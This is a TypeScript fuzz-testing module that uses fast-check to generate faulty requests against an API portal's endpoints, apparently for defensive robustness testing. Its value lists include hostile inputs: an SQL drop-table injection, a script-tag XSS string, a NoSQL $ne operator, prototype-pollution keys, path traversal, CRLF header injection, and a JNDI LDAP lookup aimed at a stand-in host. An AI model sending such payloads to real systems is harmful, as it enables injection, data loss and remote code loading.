import type { NamedCall } from '@portal/contract/openapi'
import { requestExamples } from '@portal/contract/openapi-examples'
import { roles } from '@portal/contract/roles'
import fc from 'fast-check'
import { codings, contentTypes, oddValues, oddWriters } from './written-bodies.ts'

export const callers = ['guest', 'unverified', 'member', ...roles] as const
export type Caller = (typeof callers)[number]

export type RequestPlan = ReturnType<typeof plansFor> extends fc.Arbitrary<infer Plan> ? Plan : never

/**
 * What a request for this call is to be: who sends it, and what is wrong with it. One with several faults is as likely as one with
 * none, which may still be refused. A plan is plain data, from which fast-check takes away what does not matter to a failure.
 */
export function plansFor(call: NamedCall) {
  const { method, path, aliases = [], query, idempotency, takesFile = false } = call.endpoint
  const known = Object.keys(query?.shape ?? {})
  const parts = [...path.matchAll(/:(\w+)/g)].map(([, part = '']) => part)
  const hasFields = method !== 'GET' && !takesFile
  return fc.record({
    caller: fc.oneof(
      { weight: 2, arbitrary: fc.constantFrom(...whoMayCall(call)) },
      { weight: 1, arbitrary: fc.constantFrom(...callers) },
    ),
    path: fc.constantFrom(path, ...aliases),
    query: fc.subarray(known),
    key: fc.oneof(
      { weight: idempotency ? 4 : 1, arbitrary: fc.constant('new') },
      { weight: idempotency ? 4 : 1, arbitrary: fc.constantFrom(...keys, '', ' ', 'x'.repeat(201), 'é') },
      { weight: idempotency ? 1 : 30, arbitrary: fc.constant('none') },
    ),
    accept: onceIn(3, fc.constantFrom('application/json', 'text/html', '*/*', 'image/png', 'onzin')),
    origin: onceIn(12, fc.constantFrom('own', 'https://elders.example', 'null', '\xff')),
    wrong: fc.record({
      fields: when(hasFields, () => onceIn(2, changesOf(requestExamples[call.name] ?? {}))),
      bytes: onceIn(takesFile ? 2 : hasFields ? 8 : 20, brokenBytes),
      size: when(hasFields, () => onceIn(150, fc.constant(true as const))),
      contentType: when(method !== 'GET', () => onceIn(12, fc.constantFrom(...Object.keys(contentTypes)))),
      coding: when(method !== 'GET', () => onceIn(30, fc.constantFrom(...Object.keys(codings)))),
      method: onceIn(60, fc.constantFrom(...otherMethods)),
      path: when(parts.length > 0, () => onceIn(3, fc.tuple(fc.constantFrom(...parts), brokenPart))),
      query: onceIn(known.length > 0 ? 3 : 12, brokenQueries(known)),
      link: when(call.name === 'verifyEmail', () => onceIn(3, fc.nat(80))),
      headers: onceIn(6, fc.constantFrom(...Object.keys(oddHeaders))),
      cookies: onceIn(12, fc.constantFrom(...oddCookies)),
      token: when(method !== 'GET', () => onceIn(12, fc.constantFrom(...tokens))),
    }),
  })
}

/** A plan without a fault. */
export function plainPlan({ endpoint: { path, idempotency } }: NamedCall, caller: Caller): RequestPlan {
  const key = idempotency ? 'new' : 'none'
  return { caller, path, query: [], key, accept: undefined, origin: undefined, wrong: {} as RequestPlan['wrong'] }
}

function whoMayCall({ endpoint: { access } }: NamedCall): readonly Caller[] {
  if (access === 'guest') return ['guest']
  return typeof access === 'string' ? ['member', 'member', ...roles] : access
}

/** One time in so many; what is left out is the smaller case. */
function onceIn<Value>(times: number, arbitrary: fc.Arbitrary<Value>): fc.Arbitrary<Value | undefined> {
  const none = { weight: times - 1, arbitrary: fc.constant(undefined) }
  return fc.oneof({ withCrossShrink: true }, none, { weight: 1, arbitrary })
}

function when<Value>(applies: boolean, make: () => fc.Arbitrary<Value>): fc.Arbitrary<Value | undefined> {
  return applies ? make() : fc.constant(undefined)
}

// What fast-check does not come across by itself.
const texts = [
  '0',
  '1e400',
  '99999999999999999999',
  'on',
  '2026-02-30',
  '30-01-2026',
  '2999-01-01T00:00:00Z',
  'niemand@voorbeeld.nl',
  'AB 123456',
  "'; drop table members; --",
  '<script>alert(1)</script>',
  'a\u0000b',
  'regel\r\nBcc: x@voorbeeld.nl',
  '\ud800',
  '\u202e',
  'x'.repeat(256),
  'x'.repeat(5_001),
]
const objects: object[] = [
  {},
  { message: 'a' },
  { length: 3 },
  { 0: 'a', length: 1 },
  { toString: 1 },
  { $ne: null },
  [[[]]],
]
const names = ['id', 'isAdmin', 'is_admin', 'credits', 'user_id', '__proto__', 'constructor', 'toString', 'data', '']
const aValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom<unknown>(...texts, ...objects, 1, 2 ** 31, 2 ** 53),
  fc.string({ unit: 'binary' }),
  fc.jsonValue({ maxDepth: 4, stringUnit: 'binary' }),
)

/** Changes of the fields in this body and of those within them, or of one more. */
function changesOf(body: object) {
  const at = fc.constantFrom(...placesIn(body), ...names.map((name) => [name]))
  const change = fc.record({ at, to: fc.option(aValue, { nil: undefined, freq: 3 }) })
  return fc.array(change, { minLength: 1, maxLength: 4 })
}

function placesIn(value: unknown): (string | number)[][] {
  if (typeof value !== 'object' || value === null) return []
  const named = Array.isArray(value) ? [...value.entries()] : Object.entries(value)
  return named.flatMap(([name, inner]) => [[name], ...placesIn(inner).map((place) => [name, ...place])])
}

const noObjects = ['', '[]', 'null', '1', '"tekst"', '{', '{"a":}', '{"a":1}{', '\u0000', '\ufeff{}', "{'a':1}", 'NaN']
// A start byte alone, a byte of the middle, a letter in too many bytes, half of a pair, beyond the last letter.
const notUtf8 = ['c3', '80', 'c0af', 'eda080', 'f4908080', 'ff'].map((bytes) =>
  Uint8Array.from(Buffer.from(bytes, 'hex')),
)

const brokenBytes = fc.oneof(
  fc.record({ whole: fc.oneof(fc.constantFrom(...noObjects), fc.json({ stringUnit: 'binary' })) }),
  fc.record({
    at: fc.noBias(fc.nat(5_000)),
    insert: fc.oneof(fc.uint8Array({ maxLength: 8 }), fc.constantFrom(...notUtf8)),
    goesOn: fc.boolean(),
  }),
  fc.record({
    field: fc.constantFrom('email', 'serial_number', 'rows', ...names),
    holds: fc.constantFrom(...Object.keys(oddValues)),
  }),
  fc.record({ written: fc.constantFrom(...Object.keys(oddWriters)) }),
)

const numbers = ['0', '-1', '1.5', '1e3', '99999999999999999999', '1e400', '9'.repeat(40)]
const inAddresses = [
  ...numbers,
  'abc',
  'é',
  '%',
  '%00',
  '%ff',
  '%20',
  '%c0%af',
  '%ed%a0%80',
  '..%2f..',
  '%5c',
  '__proto__',
]
const inPath = [...inAddresses, '[]', 'a'.repeat(300), 'a'.repeat(15_000)]
const inQuery = [...inAddresses, '', '%C3%A9', '%5B%5D', '%26%23%00', '2&page=3', 'a'.repeat(256), 'a'.repeat(14_000)]
const aText = fc.string({ unit: 'binary-ascii' }).map(encodeURIComponent)
const brokenPart = fc.oneof(
  fc.constantFrom(...inPath),
  // These lead to another path.
  aText.filter((text) => !['', '.', '..'].includes(text)),
)
// What parsers of other frameworks read as a list or an object.
const suffixes = ['', '[]', '[0]', '[a][b]', '[__proto__]', '%5B%5D', '.x', '%00', '%']

function brokenQueries(known: string[]) {
  const name = fc.constantFrom(...known, 'onbekend', 'page', '__proto__')
  const value = fc.oneof(fc.constantFrom(...inQuery), aText)
  const pair = fc
    .tuple(name, fc.constantFrom(...suffixes), value)
    .map(([field, suffix, text]) => `${field}${suffix}=${text}`)
  return fc.record({
    pairs: fc.array(pair, { minLength: 1, maxLength: 4 }),
    between: fc.constantFrom('&', '&&', ';'),
  })
}

/** Idempotency keys that several requests name. */
export const keys = ['key-1', 'key-2', 'key-3', 'key-4', 'key-5']
const tokens = ['', 'x', 'a'.repeat(43), '%00']
const otherMethods = ['HEAD', 'OPTIONS', 'PATCH', 'DELETE', 'TRACE', 'GET', 'PUT', 'POST', 'PROPFIND']
const oddCookies = [
  'no session',
  'two sessions',
  'a remember token',
  'of a sibling host',
  'odd names',
  'between commas',
  'too long',
] as const

export const oddHeaders: Record<string, Record<string, string>> = {
  'an old library': { 'x-requested-with': 'XMLHttpRequest' },
  'a part': { 'accept-encoding': 'br', range: 'bytes=0-1', 'if-none-match': '*' },
  'no part': { range: 'bytes=9-1,-', 'if-range': '"x', 'if-modified-since': 'gisteren', 'if-match': '' },
  'odd weights': { 'accept-encoding': 'gzip;q=x, *;q=-1', 'accept-language': '*;q=1e9', accept: ',;q=' },
  'another host before us': { 'x-forwarded-for': '1.2.3.4', 'x-forwarded-host': 'elders.example' },
  'many hosts before us': {
    'x-forwarded-for': `onzin, ::ffff:1, [::1, ${'1,'.repeat(2_000)}`,
    'x-forwarded-proto': 'javascript',
    forwarded: 'for="',
  },
  'another host': { host: 'elders.example:x' },
  'no host': { host: '' },
  'a broken referer': { referer: 'http://[', 'sec-fetch-site': 'cross-site' },
  'a long referer': { referer: `https://elders.example/${'a'.repeat(14_000)}` },
  'a long browser': { 'user-agent': `\xff\xfe${'x'.repeat(14_000)}` },
  'too great a length': { 'content-length': '99999999999' },
  'too small a length': { 'content-length': '5' },
  'no length': { 'content-length': 'onzin' },
  'codings of transfer': { 'transfer-encoding': 'gzip, chunked' },
  'another method': {
    'x-http-method-override': 'DELETE',
    'x-original-url': '/api/users',
    'x-rewrite-url': '/api/users',
  },
  'another protocol': { expect: '200-ok', te: 'trailers', upgrade: 'h2c', connection: 'upgrade, x-xsrf-token' },
  'a look-up in the log': { authorization: 'Bearer \xff', 'x-request-id': '\x7f${jndi:ldap://elders.example}' },
  'a preflight': { 'access-control-request-method': 'DELETE', 'access-control-request-headers': '\xff' },
  'a hundred of them': Object.fromEntries(Array.from({ length: 100 }, (_, index) => [`x-${index}`, 'y'.repeat(100)])),
}
